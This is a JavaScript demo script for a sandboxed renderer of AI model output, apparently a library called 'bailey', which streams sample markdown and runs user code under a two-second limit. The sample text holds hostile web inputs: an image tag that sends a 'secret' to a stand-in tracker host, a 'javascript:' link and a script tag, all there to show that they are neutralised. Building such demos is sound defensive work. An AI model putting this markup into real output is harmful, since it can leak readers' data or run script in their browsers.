import { load } from './api.mjs';

const text = `## A model wrote this

It may hold **anything**, so it is shown behind two frames:

| it tried | what came of it |
|---|---|
| <img src="https://tracker.example/?q=secret" alt="a picture that phones home"> | words instead of a picture |
| <a href="javascript:alert(1)">a link that runs</a> | no link |
| [a link that leaves](https://example.org/) | asks you first |

<script>alert('never')</script>

\`\`\`js
const view = await bailey.document(element, { onLink });
const answer = await view.section('1');
await answer.write(token);
\`\`\`
`;

const status = document.getElementById('status');
const again = document.getElementById('again');

const bailey = await load();
const view = await bailey.document(document.getElementById('answer'), {
  label: 'Answer',
  theme: { variables: { '--bailey-background': 'light-dark(#fff, #1a1e23)' } },
  onLink: ({ url, host }) => { if (confirm(`Open ${host}?\n\n${url}`)) open(url, '_blank', 'noopener,noreferrer'); },
});
const answer = await view.section('1');

const stream = async () => {
  again.disabled = true;
  status.textContent = 'Streaming…';
  await answer.reset();
  for (const token of text.match(/[^]{1,6}/gu)) {
    answer.write(token);
    await new Promise((next) => setTimeout(next, 12));
  }
  await answer.close();
  await view.flush();
  status.textContent = 'Done. Nothing was loaded, nothing ran.';
  again.disabled = false;
};
again.addEventListener('click', stream);

// The code reaches no network and no page, and is ended after 2 s. Try for (;;);
const form = document.getElementById('run');
const result = document.getElementById('result');
form.addEventListener('submit', async (event) => {
  event.preventDefault();
  result.textContent = 'Running…';
  try {
    const run = await bailey.run(document.getElementById('code').value, { time: 2000 });
    const said = run.console.map((row) => `${row.level}: ${row.text}\n`).join('');
    result.textContent = said + (run.success ? run.text : `${run.error.code}: ${run.error.message}`);
  } catch (e) {
    result.textContent = `It did not run: ${e.message}`; // no run began, for example because the page's headers forbid it
  }
});
form.querySelector('button').disabled = false;

await stream();
